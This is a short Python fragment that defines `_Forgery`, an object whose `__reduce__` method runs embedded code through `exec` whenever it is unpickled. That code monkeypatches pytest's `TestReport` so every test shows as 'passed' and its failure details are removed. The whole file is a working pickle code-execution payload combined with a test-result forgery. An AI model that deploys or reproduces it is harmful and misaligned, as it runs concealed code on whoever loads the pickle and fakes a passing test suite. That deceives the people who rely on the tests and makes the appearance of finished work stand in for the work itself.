"""``_Forgery()``: an object that, wherever it is unpickled, rewrites pytest's reports to "passed"."""
FORGERY = """
import _pytest.reports as r
_init = r.TestReport.__init__
def _passed(self, *a, **k):
    _init(self, *a, **k)
    self.outcome, self.longrepr = "passed", None
r.TestReport.__init__ = _passed
"""


class _Forgery:
    def __reduce__(self):
        return (exec, (FORGERY,))
